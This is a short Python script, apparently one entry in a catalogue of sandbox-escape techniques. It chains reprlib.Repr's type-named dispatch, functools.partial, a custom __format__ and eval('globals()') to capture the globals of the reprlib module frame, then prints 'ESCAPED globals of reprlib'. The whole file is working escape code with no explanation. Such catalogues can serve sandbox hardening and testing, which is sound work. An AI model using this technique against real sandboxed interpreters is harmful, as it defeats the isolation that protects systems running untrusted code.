# technique: reprlib.Repr calls a method named after the type
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import reprlib
kept = []


class Show:
    __format__ = staticmethod(functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()']))))


peek = functools.partial('{0}'.format, Show())


class thing:
    pass


class Mine(reprlib.Repr):
    repr_thing = staticmethod(peek)


try:
    Mine().repr(thing())
except TypeError:
    pass
if kept[0]['__name__'] == 'reprlib':
    print('ESCAPED globals of reprlib')
